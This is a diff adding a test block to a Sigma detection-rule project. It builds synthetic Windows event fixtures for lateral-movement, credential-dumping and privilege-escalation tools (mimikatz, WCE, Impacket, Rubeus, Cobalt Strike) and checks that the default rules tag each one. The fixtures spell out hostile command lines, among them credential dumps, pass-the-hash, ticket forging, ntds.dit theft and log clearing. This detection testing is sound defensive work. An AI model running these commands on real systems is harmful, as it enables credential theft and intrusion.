@@ -7,6 +7,7 @@ import { describe, expect, it } from 'vitest';
 import type { JsonRecord } from '../event.js';
 import { analyzeEvents, analyzePaths } from '../analysis/analyze.js';
 import { at, makeEvent } from '../analysis/events.fixture.js';
+import { attackLookup } from '../../core/attack/lookup.js';
 import { loadSigmaRules, shippedRulesDir } from './index.js';
 
 const builtin = loadSigmaRules({ sources: [{ name: 'rules-builtin', path: path.join(shippedRulesDir(), 'rules-builtin') }], minLevel: 'informational' });
@@ -1640,5 +1641,156 @@ describe('built-in Windows rules', () => {
       expect(loud).toEqual([]);
     }
     expect(events).toBeGreaterThan(5000);
+  });
+});
+
+// The tool pages of a public lateral-movement catalogue (JPCERT/CC's Tool Analysis Result Sheet: the events each tool
+// leaves on the source and destination hosts) and the public descriptions of offensive suites (Impacket, CrackMapExec,
+// Rubeus, SharpHound, Metasploit, Cobalt Strike's defaults), written as Sysmon, 4688 and 4104 events: each unit (one
+// host's side of one tool) must be tagged by the default set with a technique of the tool's tactic (any level).
+describe('tool footprints of a public lateral-movement catalogue through the default set', () => {
+  interface Unit { name: string; tactics: string[]; events: Ev[] }
+  type Ev = ReturnType<typeof makeEvent>;
+  let t = 0;
+  const win2 = (channel: string, provider: string, eventId: number, data: JsonRecord, host = 'WS01'): Ev =>
+    makeEvent({ time: at(t++), host, action: 'windows.event', object: { type: 'log', name: channel }, attributes: { eventId, provider, channel, data } });
+  const SM = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
+  const sm = (id: number, d: JsonRecord): Ev => win2(SM[0], SM[1], id, d);
+  const S32 = 'C:\\Windows\\System32\\';
+  const USER = 'CORP\\bob';
+  const SYS = 'NT AUTHORITY\\SYSTEM';
+  /** Sysmon 1 and 4688 of one process. */
+  const p1 = (image: string, cmd: string, parent: string, extra: JsonRecord = {}): Ev => sm(1, { Image: image, CommandLine: cmd, ParentImage: parent, ParentCommandLine: parent, User: USER, IntegrityLevel: 'High', CurrentDirectory: 'C:\\Users\\bob\\', ...extra });
+  const p4688 = (image: string, cmd: string, parent: string, extra: JsonRecord = {}): Ev => win2('Security', 'Microsoft-Windows-Security-Auditing', 4688, { SubjectUserName: 'bob', NewProcessName: image, CommandLine: cmd, ParentProcessName: parent, TokenElevationType: '%%1937', ...extra });
+  const ps = (text: string): Ev => win2('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, Path: '' });
+  const TOOLS = 'C:\\Users\\bob\\Desktop\\tools\\';
+  const CMD = `${S32}cmd.exe`;
+  const PSH = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
+  const procs = (image: string, cmd: string, parent = CMD, extra: JsonRecord = {}): Ev[] => [p1(image, cmd, parent, extra), p4688(image, cmd, parent)];
+  const u = (name: string, tactics: string[], events: Ev[]): Unit => ({ name, tactics, events });
+  const LM = ['lateral-movement'];
+  const EX = ['execution'];
+  const CA = ['credential-access'];
+  const DE = ['defense-evasion', 'stealth', 'defense-impairment'];
+  const PE = ['privilege-escalation'];
+  const DI = ['discovery'];
+  const C2 = ['command-and-control'];
+  const PERS = ['persistence'];
+  const lsass = `${S32}lsass.exe`;
+  const acc = (src: string, target: string, mask: string, trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e'): Ev => sm(10, { SourceImage: src, TargetImage: target, GrantedAccess: mask, CallTrace: trace });
+  const units: Unit[] = [
+    // Command execution
+    u('PsExec source', [...LM, ...EX], [...procs(`${TOOLS}PsExec.exe`, `${TOOLS}PsExec.exe \\\\ws02 -accepteula cmd /c ipconfig`), sm(13, { EventType: 'SetValue', Image: `${TOOLS}PsExec.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Sysinternals\\PsExec\\EulaAccepted', Details: 'DWORD (0x00000001)' }), sm(3, { Image: `${TOOLS}PsExec.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '445', Protocol: 'tcp' })]),
+    u('PsExec source 4688 only', [...LM, ...EX], [p4688(`${TOOLS}PsExec.exe`, `PsExec.exe \\\\ws02 -u corp\\admin -p Passw0rd cmd`, CMD)]),
+    u('PsExec target', LM, [sm(11, { Image: 'System', TargetFilename: 'C:\\Windows\\PSEXESVC.exe' }), sm(13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath', Details: '%SystemRoot%\\PSEXESVC.exe' }), ...procs('C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', `${S32}services.exe`, { User: SYS }), ...procs(`${S32}ipconfig.exe`, 'ipconfig', 'C:\\Windows\\PSEXESVC.exe'), sm(17, { EventType: 'CreatePipe', PipeName: '\\PSEXESVC', Image: 'C:\\Windows\\PSEXESVC.exe' })]),
+    u('PsExec target, process creation only', LM, [...procs('C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', `${S32}services.exe`, { User: SYS }), ...procs(CMD, '"cmd" /c ipconfig', 'C:\\Windows\\PSEXESVC.exe', { User: 'CORP\\admin' })]),
+    u('wmic source', [...LM, ...EX], procs(`${S32}wbem\\WMIC.exe`, 'wmic /node:"ws02" process call create "cmd /c ipconfig > C:\\out.txt"')),
+    u('wmic source query', [...LM, ...EX, ...DI], procs(`${S32}wbem\\WMIC.exe`, 'wmic /NODE:"ws02" OS GET CSName')),
+    u('wmic target', LM, [...procs(`${S32}wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', `${S32}svchost.exe`, { User: 'NT AUTHORITY\\NETWORK SERVICE' }), ...procs(CMD, 'cmd /c ipconfig > C:\\out.txt', `${S32}wbem\\WmiPrvSE.exe`, { User: 'CORP\\admin' })]),
+    u('wmiexec.vbs source', [...LM, ...EX], [...procs(`${S32}cscript.exe`, `cscript ${TOOLS}wmiexec.vbs /cmd ws02 corp\\admin "Passw0rd" ipconfig`), ...procs(`${S32}net.exe`, 'net use \\\\ws02 "Passw0rd" /user:corp\\admin', CMD)]),
+    u('wmiexec.vbs target', LM, [...procs(CMD, 'cmd.exe /c ipconfig.exe > C:\\windows\\temp\\wmi.dll 2>&1', `${S32}wbem\\WmiPrvSE.exe`, { User: 'CORP\\admin' }), ...procs(`${S32}ipconfig.exe`, 'ipconfig.exe', CMD)]),
+    u('BeginX server', [...LM, ...EX, ...DE], [...procs(`${S32}netsh.exe`, 'netsh advfirewall firewall add rule name=Trend protocol=TCP dir=in localport=8080 action=allow', 'C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe'), ...procs(`${S32}rundll32.exe`, 'C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\FirewallControlPanel.dll,ShowNotificationDialog /ETOnly 0 /OnProfiles 7 /OtherAllowed 0 /OtherBlocked 0 /OtherEdgeAllowed 0 /NewBlocked 2 "C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe"', `${S32}svchost.exe`), ...procs(CMD, 'cmd /c dir', 'C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe'), sm(3, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\bxs.exe', Initiated: 'false', SourceIp: '10.0.0.7', DestinationIp: '10.0.0.12', DestinationPort: '8080', Protocol: 'tcp' })]),
+    u('BeginX client', [...LM, ...EX], [...procs(`${TOOLS}bxc.exe`, `${TOOLS}bxc.exe 10.0.0.12:8080 "cmd /c dir"`), sm(3, { Image: `${TOOLS}bxc.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '8080', Protocol: 'tcp' })]),
+    u('WinRM source (winrm.vbs)', [...LM, ...EX], procs(`${S32}cscript.exe`, 'cscript //nologo "C:\\Windows\\System32\\winrm.vbs" get wmicimv2/Win32_Service?Name=WinRM -r:ws02')),
+    u('WinRM invoke create', [...LM, ...EX], procs(`${S32}cscript.exe`, 'cscript //nologo "C:\\Windows\\System32\\winrm.vbs" invoke Create wmicimv2/Win32_Process @{CommandLine="cmd /c ipconfig"} -r:http://ws02:5985')),
+    u('WinRM target', LM, [...procs(`${S32}wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', `${S32}svchost.exe`), sm(3, { Image: 'System', Initiated: 'false', SourceIp: '10.0.0.7', DestinationPort: '5985', Protocol: 'tcp' })]),
+    u('WinRS source', [...LM, ...EX], procs(`${S32}winrs.exe`, 'winrs -r:ws02 ipconfig')),
+    u('WinRS target', LM, [...procs(`${S32}winrshost.exe`, 'C:\\Windows\\system32\\WinrsHost.exe -Embedding', `${S32}svchost.exe`), ...procs(CMD, 'C:\\Windows\\system32\\cmd.exe /C ipconfig', `${S32}winrshost.exe`)]),
+    u('PowerShell remoting source', [...LM, ...EX], [ps('Invoke-Command -ComputerName ws02 -ScriptBlock { ipconfig }'), ...procs(PSH, 'powershell.exe', `${S32}explorer.exe`)]),
+    u('PowerShell remoting target', LM, [...procs(`${S32}wsmprovhost.exe`, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', `${S32}svchost.exe`), ...procs(`${S32}ipconfig.exe`, '"C:\\Windows\\system32\\ipconfig.exe"', `${S32}wsmprovhost.exe`)]),
+    u('BITS (PowerShell)', [...C2, ...LM, ...PERS, ...DE], [ps('Start-BitsTransfer -Source \\\\ws02\\c$\\temp\\a.exe -Destination C:\\Users\\bob\\a.exe'), ...procs(PSH, 'powershell.exe', `${S32}explorer.exe`)]),
+    u('schtasks source', [...LM, ...EX, ...PERS], [...procs(`${S32}schtasks.exe`, 'C:\\Windows\\System32\\schtasks.exe /Create /S ws02 /U corp\\admin /P Passw0rd /SC ONCE /ST 10:00 /TN upd /TR "C:\\Windows\\Temp\\a.bat"'), ...procs(`${S32}schtasks.exe`, 'C:\\Windows\\System32\\schtasks.exe /Run /S ws02 /U corp\\admin /P Passw0rd /TN upd')]),
+    u('schtasks target (taskeng)', [...EX, ...PERS, ...LM], [...procs(`${S32}taskeng.exe`, 'taskeng.exe {D0E4DD8C-3A5A-4A6B-9B1E-3D1C1F1E1A1B} S-1-5-21-1-2-3-500:CORP\\admin:Interactive:[1]', `${S32}svchost.exe`), ...procs(CMD, 'C:\\Windows\\system32\\cmd.exe /c "C:\\Windows\\Temp\\a.bat"', `${S32}taskeng.exe`)]),
+    u('at source', [...LM, ...EX, ...PERS], procs(`${S32}at.exe`, 'at \\\\ws02 10:00 C:\\Windows\\Temp\\a.bat')),
+    // Password and hash dump
+    u('PWDump7', CA, [...procs(`${TOOLS}PwDump7.exe`, 'PwDump7.exe'), acc(`${TOOLS}PwDump7.exe`, lsass, '0x1410')]),
+    u('PWDump7, process creation only', CA, procs(`${TOOLS}PwDump7.exe`, 'PwDump7.exe')),
+    u('PWDumpX source', [...CA, ...LM], procs(`${TOOLS}PWDumpX.exe`, 'PWDumpX.exe -clph ws02 corp\\admin Passw0rd')),
+    u('PWDumpX target', [...CA, ...LM], [sm(11, { Image: 'System', TargetFilename: `${S32}DumpSvc.exe` }), sm(13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\PWDumpX Service\\ImagePath', Details: '%windir%\\system32\\DumpSvc.exe' }), ...procs(`${S32}DumpSvc.exe`, 'C:\\Windows\\system32\\DumpSvc.exe', `${S32}services.exe`, { User: SYS }), acc(`${S32}DumpSvc.exe`, lsass, '0x1410'), sm(11, { Image: `${S32}DumpSvc.exe`, TargetFilename: `${S32}ws02-PWHashes.txt` })]),
+    u('Quarks PwDump', CA, [...procs(`${TOOLS}QuarksPwDump.exe`, 'QuarksPwDump.exe -dhl -o out.txt'), sm(11, { Image: `${TOOLS}QuarksPwDump.exe`, TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\SAM-12345.dmp' }), sm(12, { EventType: 'CreateKey', Image: `${TOOLS}QuarksPwDump.exe`, TargetObject: 'HKLM\\QUARKS-SAM' })]),
+    u('Quarks PwDump, hive dump file only', CA, [sm(11, { Image: 'C:\\Users\\bob\\Downloads\\qp.exe', TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\SAM-31337.dmp' })]),
+    u('mimikatz lsadump::sam', CA, [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" exit'), acc(`${TOOLS}mimikatz.exe`, `${S32}winlogon.exe`, '0x1fffff')]),
+    u('mimikatz (renamed, no arguments) reading lsass', CA, [...procs('C:\\Users\\bob\\Desktop\\m64.exe', 'm64.exe'), acc('C:\\Users\\bob\\Desktop\\m64.exe', lsass, '0x1010')]),
+    u('mimikatz sekurlsa::tickets /export', CA, [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "sekurlsa::tickets /export" exit'), sm(11, { Image: `${TOOLS}mimikatz.exe`, TargetFilename: `${TOOLS}[0;3e7]-2-0-40e10000-WS01$@krbtgt-CORP.LOCAL.kirbi` })]),
+    u('kirbi files written only', CA, [sm(11, { Image: 'C:\\Users\\bob\\Desktop\\m.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\[0;3e7]-2-0-40e10000-WS01$@krbtgt-CORP.LOCAL.kirbi' })]),
+    u('WCE', CA, [...procs(`${TOOLS}wce.exe`, 'wce.exe -w'), sm(11, { Image: `${TOOLS}wce.exe`, TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\wceaux.dll' }), sm(8, { SourceImage: `${TOOLS}wce.exe`, TargetImage: lsass, StartAddress: '0x00007FF6A1B21000', StartModule: '', StartFunction: '' })]),
+    u('WCE renamed, aux DLL only', CA, [sm(11, { Image: 'C:\\Users\\bob\\Desktop\\w.exe', TargetFilename: 'C:\\Users\\bob\\AppData\\Local\\Temp\\wceaux.dll' })]),
+    u('gsecdump', CA, [...procs(`${TOOLS}gsecdump.exe`, 'gsecdump.exe -a'), acc(`${TOOLS}gsecdump.exe`, lsass, '0x1fffff'), acc(`${TOOLS}gsecdump.exe`, `${S32}winlogon.exe`, '0x1fffff'), acc(`${TOOLS}gsecdump.exe`, `${S32}csrss.exe`, '0x1fffff')]),
+    u('lslsass', CA, [...procs(`${TOOLS}lslsass64.exe`, 'lslsass64.exe'), acc(`${TOOLS}lslsass64.exe`, lsass, '0x1438')]),
+    u('AceHash dump', CA, [...procs(`${TOOLS}ah.exe`, 'ah.exe -l'), acc(`${TOOLS}ah.exe`, lsass, '0x1FFFFF')]),
+    u('AceHash pass the hash', [...LM, ...DE, ...CA], [...procs(`${TOOLS}ah.exe`, 'ah.exe -s admin:CORP:31d6cfe0d16ae931b73c59d7e0c089c0 "cmd.exe"'), ...procs(CMD, 'cmd.exe', `${TOOLS}ah.exe`), acc(`${TOOLS}ah.exe`, lsass, '0x1FFFFF')]),
+    u('Find-GPOPasswords', CA, [ps('function Find-GPOPasswords { $files = Get-ChildItem -Path "\\\\$domain\\SYSVOL" -Recurse -Include Groups.xml,Services.xml,ScheduledTasks.xml,DataSources.xml,Drives.xml | Select-String -Pattern "cpassword" }')]),
+    u('Get-GPPPassword', CA, [ps('function Get-GPPPassword { [CmdletBinding()] Param() $AesKey = [Byte[]](0x4e,0x99,0x06,0xe8); $Cpassword = $Cpassword.Replace("-","") }'), ps('Get-GPPPassword')]),
+    u('Invoke-Mimikatz', CA, [ps('Invoke-Mimikatz -DumpCreds'), acc(PSH, lsass, '0x1010', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|UNKNOWN(00000201A2B3C4D5)')]),
+    u('Out-Minidump', CA, [ps('Get-Process lsass | Out-Minidump -DumpFilePath C:\\Users\\bob\\'), acc(PSH, lsass, '0x1fffff'), sm(11, { Image: PSH, TargetFilename: 'C:\\Users\\bob\\lsass_624.dmp' })]),
+    u('PowerMemory', CA, [...procs(PSH, '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ExecutionPolicy Bypass -File .\\RWMC\\Reveal-MemoryCredentials.ps1 0'), ...procs('C:\\Windows\\Temp\\msdsc.exe', 'C:\\Windows\\temp\\msdsc.exe lsass c:\\windows\\temp', PSH), acc('C:\\Windows\\Temp\\msdsc.exe', lsass, '0x1FFFFF'), ...procs(`${TOOLS}RWMC\\debugger\\pre2r2vm\\cdb.exe`, `${TOOLS}RWMC\\debugger\\pre2r2vm\\cdb.exe -z C:\\Windows\\temp\\lsass.dmp -c ".load mimilib; !mimikatz; q"`, PSH)]),
+    u('PowerMemory, dump helper only', CA, [...procs('C:\\Windows\\Temp\\msdsc.exe', 'C:\\Windows\\temp\\msdsc.exe lsass c:\\windows\\temp', PSH)]),
+    u('WebBrowserPassView', CA, [...procs(`${TOOLS}WebBrowserPassView.exe`, 'WebBrowserPassView.exe /stext out.txt'), acc(`${TOOLS}WebBrowserPassView.exe`, `${S32}RuntimeBroker.exe`, '0x1410')]),
+    u('browser credential store read by a user-folder tool (Sysmon 11/23 absent: file access)', CA, procs('C:\\Users\\bob\\Desktop\\wbpv.exe', 'wbpv.exe /scomma C:\\Users\\bob\\p.csv', CMD, { OriginalFileName: 'WebBrowserPassView.exe' })),
+    // Relay
+    u('Htran', C2, [...procs(`${TOOLS}htran.exe`, 'htran.exe -tran 443 10.0.0.12 3389'), sm(3, { Image: `${TOOLS}htran.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '3389', Protocol: 'tcp' })]),
+    u('Htran renamed', C2, procs('C:\\Users\\Public\\svc.exe', 'svc.exe -slave 203.0.113.5 443 127.0.0.1 3389')),
+    u('Fake wpad', [...CA, ...C2], [...procs(`${TOOLS}fakewpad.exe`, 'fakewpad.exe'), sm(3, { Image: `${TOOLS}fakewpad.exe`, Initiated: 'false', SourceIp: '10.0.0.9', DestinationIp: '10.0.0.7', DestinationPort: '80', Protocol: 'tcp' }), sm(3, { Image: 'System', Initiated: 'false', SourceIp: '10.0.0.9', DestinationPort: '137', Protocol: 'udp' })]),
+    // Remote login
+    u('RDP source', LM, [...procs(`${S32}mstsc.exe`, 'mstsc /v:ws02', `${S32}explorer.exe`), sm(3, { Image: `${S32}mstsc.exe`, Initiated: 'true', DestinationIp: '10.0.0.12', DestinationPort: '3389', Protocol: 'tcp' })]),
+    u('RDP target', LM, [...procs(`${S32}rdpclip.exe`, 'rdpclip', `${S32}svchost.exe`), ...procs(`${S32}TSTheme.exe`, 'C:\\Windows\\system32\\TSTheme.exe -Embedding', `${S32}svchost.exe`), sm(3, { Image: `${S32}svchost.exe`, Initiated: 'false', SourceIp: '10.0.0.7', DestinationIp: '10.0.0.12', DestinationPort: '3389', Protocol: 'tcp' })]),
+    u('WCE remote login', [...LM, ...DE], [...procs(`${TOOLS}wce.exe`, 'wce.exe -s admin:CORP:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0 -c "wmic /node:ws02 process call create cmd"'), sm(13, { EventType: 'SetValue', Image: `${S32}services.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WCESERVICE\\ImagePath', Details: `${TOOLS}wce.exe -S` }), ...procs(`${TOOLS}wce.exe`, `${TOOLS}wce.exe -S`, `${S32}services.exe`, { User: SYS })]),
+    u('mimikatz pth', [...LM, ...DE], [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "sekurlsa::pth /user:admin /domain:corp /ntlm:31d6cfe0d16ae931b73c59d7e0c089c0" exit'), ...procs(CMD, 'cmd.exe', `${TOOLS}mimikatz.exe`), acc(`${TOOLS}mimikatz.exe`, lsass, '0x1438')]),
+    // Escalation
+    u('MS14-058 exploit', PE, [...procs('C:\\Users\\bob\\Desktop\\x64.exe', 'x64.exe cmd.exe', CMD, { IntegrityLevel: 'Medium' }), ...procs(CMD, 'cmd.exe', 'C:\\Users\\bob\\Desktop\\x64.exe', { User: SYS, IntegrityLevel: 'System' }), acc('C:\\Users\\bob\\Desktop\\x64.exe', CMD, '0x1FFFFF')]),
+    u('MS15-078 exploit, 4688 only', PE, [p4688('C:\\Users\\bob\\Desktop\\ms15-078.exe', 'ms15-078.exe cmd.exe', CMD), win2('Security', 'Microsoft-Windows-Security-Auditing', 4688, { SubjectUserName: 'WS01$', SubjectUserSid: 'S-1-5-18', NewProcessName: CMD, CommandLine: 'cmd.exe', ParentProcessName: 'C:\\Users\\bob\\Desktop\\ms15-078.exe', TokenElevationType: '%%1936', MandatoryLabel: 'S-1-16-16384' })]),
+    u('SDB UAC bypass', [...PE, ...PERS, ...DE], [...procs(`${S32}sdbinst.exe`, 'sdbinst /q C:\\Users\\bob\\AppData\\LocalLow\\x.sdb'), sm(11, { Image: `${S32}sdbinst.exe`, TargetFilename: 'C:\\Windows\\AppPatch\\Custom\\{a1b2c3d4-0000-0000-0000-000000000000}.sdb' }), ...procs(CMD, 'cmd /c C:\\Users\\bob\\AppData\\LocalLow\\e.bat', `${S32}cliconfg.exe`, { IntegrityLevel: 'High' })]),
+    u('MS14-068 (PyKEK) and ticket cache', [...PE, ...CA, ...LM], [...procs(`${TOOLS}ms14-068.exe`, 'ms14-068.exe -u bob@corp.local -s S-1-5-21-1-2-3-1104 -d dc01.corp.local'), sm(11, { Image: `${TOOLS}ms14-068.exe`, TargetFilename: `${TOOLS}TGT_bob@corp.local.ccache` }), ...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "kerberos::ptc TGT_bob@corp.local.ccache" exit')]),
+    u('ccache written only', [...PE, ...CA, ...LM], [sm(11, { Image: 'C:\\Users\\bob\\Desktop\\k.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\TGT_bob@corp.local.ccache' })]),
+    u('Golden ticket', [...CA, ...LM, ...PE, ...PERS, ...DE], [...procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "kerberos::golden /user:Administrator /domain:corp.local /sid:S-1-5-21-1-2-3 /krbtgt:31d6cfe0d16ae931b73c59d7e0c089c0 /ticket:Administrator.kiribi" exit'), sm(11, { Image: `${TOOLS}mimikatz.exe`, TargetFilename: `${TOOLS}Administrator.kiribi` })]),
+    u('Silver ticket', [...CA, ...LM, ...PE, ...PERS, ...DE], procs(`${TOOLS}mimikatz.exe`, 'mimikatz.exe "kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /target:ws02.corp.local /service:cifs /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt" exit')),
+    // Information collection
+    u('ntdsutil IFM', CA, procs(`${S32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\x" q q')),
+    u('vssadmin create + copy', CA, [...procs(`${S32}vssadmin.exe`, 'vssadmin create shadow /For=C:'), ...procs(CMD, 'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\ntds.dit')]),
+    u('vssadmin files written', CA, [sm(11, { Image: CMD, TargetFilename: 'C:\\temp\\ntds.dit' }), sm(11, { Image: CMD, TargetFilename: 'C:\\temp\\SYSTEM' })]),
+    u('csvde', DI, procs(`${S32}csvde.exe`, 'csvde -f C:\\Users\\bob\\ad.csv -r "(objectClass=user)"')),
+    u('ldifde', DI, procs(`${S32}ldifde.exe`, 'ldifde -f C:\\Users\\bob\\ad.ldf -p subtree')),
+    u('dsquery', DI, procs(`${S32}dsquery.exe`, 'dsquery * -filter "(objectClass=user)" -attr *')),
+    u('dcdiag', DI, procs(`${S32}dcdiag.exe`, 'dcdiag /test:dns /s:dc01')),
+    u('nltest', DI, procs(`${S32}nltest.exe`, 'nltest /dsgetdc: /force')),
+    u('nmap', DI, [...procs(`${TOOLS}nmap.exe`, 'nmap -sS -p 1-1024 10.0.0.0/24')]),
+    u('net user add domain', [...PERS], [...procs(`${S32}net.exe`, 'net user support Passw0rd1 /add /domain'), ...procs(`${S32}net1.exe`, 'C:\\Windows\\system32\\net1 user support Passw0rd1 /add /domain', `${S32}net.exe`)]),
+    u('net group domain admins add', [...PERS, ...PE], procs(`${S32}net.exe`, 'net group "domain admins" support /add /domain')),
+    u('net user delete', [...DE, 'impact'], procs(`${S32}net.exe`, 'net user support /delete /domain')),
+    u('net use', LM, procs(`${S32}net.exe`, 'net use \\\\ws02\\c$')),
+    u('sdelete', DE, [...procs(`${TOOLS}sdelete.exe`, 'sdelete.exe -p 3 C:\\Users\\bob\\out.txt'), sm(13, { EventType: 'SetValue', Image: `${TOOLS}sdelete.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Sysinternals\\SDelete\\EulaAccepted', Details: 'DWORD (0x00000001)' })]),
+    u('sdelete renamed, file names only', DE, [sm(23, { Image: 'C:\\Users\\bob\\Desktop\\sd.exe', TargetFilename: 'C:\\Users\\bob\\AAAAAAAAAAA.AAA' }), sm(11, { Image: 'C:\\Users\\bob\\Desktop\\sd.exe', TargetFilename: 'C:\\Users\\bob\\ZZZZZZZZZZZ.ZZZ' })]),
+    u('timestomp', DE, [...procs(`${TOOLS}timestomp.exe`, 'timestomp.exe C:\\Users\\bob\\evil.exe -m "Monday 7/25/2005 5:15:55 AM"'), sm(2, { Image: `${TOOLS}timestomp.exe`, TargetFilename: 'C:\\Users\\bob\\evil.exe', CreationUtcTime: '2005-07-25 05:15:55.000', PreviousCreationUtcTime: '2026-11-30 10:00:00.000' })]),
+    u('klist purge', DE, procs(`${S32}klist.exe`, 'klist purge')),
+    u('wevtutil cl remote', DE, procs(`${S32}wevtutil.exe`, 'wevtutil cl Security /r:ws02')),
+    // Offensive suites
+    u('impacket psexec target', LM, [sm(11, { Image: 'System', TargetFilename: 'C:\\Windows\\aBcDeFgH.exe' }), ...procs('C:\\Windows\\aBcDeFgH.exe', 'C:\\Windows\\aBcDeFgH.exe', `${S32}services.exe`, { User: SYS }), sm(17, { EventType: 'CreatePipe', PipeName: '\\RemCom_communicaton', Image: 'C:\\Windows\\aBcDeFgH.exe' }), ...procs(CMD, 'cmd.exe', 'C:\\Windows\\aBcDeFgH.exe', { User: SYS })]),
+    u('impacket psexec target, 4688 only', LM, [p4688('C:\\Windows\\aBcDeFgH.exe', 'C:\\Windows\\aBcDeFgH.exe', `${S32}services.exe`), p4688(CMD, 'cmd.exe', 'C:\\Windows\\aBcDeFgH.exe')]),
+    u('impacket smbexec target', LM, procs(CMD, 'C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat', `${S32}services.exe`, { User: SYS })),
+    u('impacket wmiexec target', LM, procs(CMD, 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.123456 2>&1', `${S32}wbem\\WmiPrvSE.exe`)),
+    u('impacket atexec target', LM, procs(CMD, 'cmd.exe /C whoami > C:\\Windows\\Temp\\AbCdEfGh.tmp 2>&1', `${S32}svchost.exe`, { User: SYS })),
+    u('impacket dcomexec mmc target', LM, [...procs(`${S32}mmc.exe`, 'C:\\Windows\\system32\\mmc.exe -Embedding', `${S32}svchost.exe`), ...procs(CMD, 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1', `${S32}mmc.exe`)]),
+    u('impacket secretsdump target (remote registry)', CA, [sm(11, { Image: `${S32}svchost.exe`, TargetFilename: 'C:\\Windows\\System32\\AbCdEfGh.tmp' }), sm(11, { Image: `${S32}svchost.exe`, TargetFilename: 'C:\\Windows\\Temp\\XyZwAbCd.tmp' })]),
+    u('CrackMapExec / NetExec target (wmiexec default)', [...LM, ...EX], procs(CMD, 'cmd.exe /Q /c powershell.exe -exec bypass -noni -nop -w 1 -C "whoami" 1> \\Windows\\Temp\\AbCdEf 2>&1', `${S32}wbem\\WmiPrvSE.exe`)),
+    u('Rubeus asktgt/kerberoast', CA, [...procs(`${TOOLS}Rubeus.exe`, 'Rubeus.exe kerberoast /outfile:h.txt'), ...procs(`${TOOLS}Rubeus.exe`, 'Rubeus.exe asktgt /user:admin /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt')]),
+    u('Rubeus renamed', CA, procs('C:\\Users\\bob\\r.exe', 'r.exe asktgt /user:admin /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /ptt')),
+    u('SharpHound', DI, procs(`${TOOLS}SharpHound.exe`, 'SharpHound.exe -c All')),
+    u('Metasploit psexec target (PowerShell payload service)', LM, procs(CMD, '%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){$b=\'powershell.exe\'}else{$b=$env:windir+\'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe\'};$s=New-Object System.Diagnostics.ProcessStartInfo"', `${S32}services.exe`, { User: SYS })),
+    u('Metasploit getsystem', PE, procs(CMD, 'cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef', `${S32}services.exe`, { User: SYS })),
+    u('Cobalt Strike spawnto rundll32 without arguments', [...DE, ...EX], procs(`${S32}rundll32.exe`, 'C:\\Windows\\system32\\rundll32.exe', 'C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe')),
+    u('Cobalt Strike pipes', [...C2, ...LM, ...EX], [sm(17, { EventType: 'CreatePipe', PipeName: '\\MSSE-1234-server', Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\b.exe' }), sm(17, { EventType: 'CreatePipe', PipeName: '\\postex_ssh_1a2b', Image: `${S32}rundll32.exe` })]),
